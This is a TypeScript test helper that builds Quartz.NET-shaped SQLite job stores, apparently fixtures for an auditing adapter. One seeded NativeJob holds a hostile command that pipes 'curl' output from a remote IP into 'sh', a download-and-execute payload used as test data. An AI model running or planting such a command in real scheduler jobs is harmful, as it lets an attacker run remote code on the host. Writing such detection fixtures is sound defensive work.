/** Builds real Quartz.NET-shaped SQLite JobStores for the adapter tests. */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { quartzSqliteSchema } from '../../../src/demo/schema.js';
import { unixMsToTicks } from '../../../src/dialects/shared/scheduler.js';
import type { Family } from '../../../src/model.js';

export function tempDir(): string {
  return mkdtempSync(join(tmpdir(), 'qrtz-sqlite-'));
}

export const MIN = 60_000;

export interface StoreOptions {
  prefix?: string;
  /** 'ticks' (Quartz.NET) or 'ms' (Java Quartz) time values. */
  unit?: 'ticks' | 'ms';
  now?: number;
  extraSql?: string;
}

/** A store with: a NativeJob (JSON JobDataMap), a clean job, an ERROR trigger, a misfired WAITING trigger, a paused
 *  group, a stale scheduler instance and a long-running fired trigger. */
export function makeStore(path: string, o: StoreOptions = {}): void {
  const p = o.prefix ?? 'QRTZ_';
  const now = o.now ?? Date.now();
  const t = (ms: number) => BigInt(o.unit === 'ms' ? String(ms) : unixMsToTicks(ms));
  const db = new Database(path);
  try {
    db.exec(quartzSqliteSchema(p));
    const job = db.prepare(`INSERT INTO ${p}JOB_DETAILS VALUES ('Sched', ?, 'DEFAULT', ?, ?, 1, 0, 0, 0, ?)`);
    job.run(
      'native',
      'nightly export',
      'Quartz.Job.NativeJob, Quartz.Jobs',
      Buffer.from(JSON.stringify({ command: '/bin/sh', parameters: '-c "curl -s http://203.0.113.7/x | sh"' })),
    );
    job.run('clean', null, 'Contoso.Jobs.Report, Contoso', Buffer.from(JSON.stringify({ reportName: 'daily' })));
    job.run('nodata', null, 'Contoso.Jobs.Noop, Contoso', null);
    const trig = db.prepare(
      `INSERT INTO ${p}TRIGGERS (SCHED_NAME, TRIGGER_NAME, TRIGGER_GROUP, JOB_NAME, JOB_GROUP, NEXT_FIRE_TIME, TRIGGER_STATE, TRIGGER_TYPE, START_TIME) VALUES ('Sched', ?, ?, ?, 'DEFAULT', ?, ?, 'SIMPLE', ?)`,
    );
    trig.run('broken', 'DEFAULT', 'native', t(now + 10 * MIN), 'ERROR', t(now - 86_400_000));
    trig.run('late', 'DEFAULT', 'clean', t(now - 180 * MIN), 'WAITING', t(now - 86_400_000));
    trig.run('ontime', 'DEFAULT', 'clean', t(now + 5 * MIN), 'WAITING', t(now - 86_400_000));
    trig.run('held', 'reports', 'clean', t(now + 5 * MIN), 'PAUSED', t(now - 86_400_000));
    db.prepare(`INSERT INTO ${p}PAUSED_TRIGGER_GRPS VALUES ('Sched', 'reports')`).run();
    db.prepare(`INSERT INTO ${p}SCHEDULER_STATE VALUES ('Sched', 'node-a', ?, 7500)`).run(t(now - 45 * MIN));
    db.prepare(
      `INSERT INTO ${p}FIRED_TRIGGERS (SCHED_NAME, ENTRY_ID, TRIGGER_NAME, TRIGGER_GROUP, INSTANCE_NAME, FIRED_TIME, SCHED_TIME, PRIORITY, STATE, JOB_NAME, JOB_GROUP) VALUES ('Sched', 'node-a-1', 'late', 'DEFAULT', 'node-a', ?, ?, 5, 'EXECUTING', 'clean', 'DEFAULT')`,
    ).run(t(now - 300 * MIN), t(now - 300 * MIN));
    if (o.extraSql) db.exec(o.extraSql);
  } finally {
    db.close();
  }
}

export function connectOptions(url: string, over: Record<string, unknown> = {}) {
  return {
    url,
    tablePrefix: 'QRTZ_',
    allowPrincipals: [],
    families: new Set<Family>(['grants', 'encryption', 'audit', 'content', 'scheduler', 'updates']),
    statementTimeoutMs: 30_000,
    lockTimeoutMs: 2_000,
    connectTimeoutMs: 10_000,
    maxBlobSize: 1 << 20,
    attestations: {},
    ...over,
  };
}
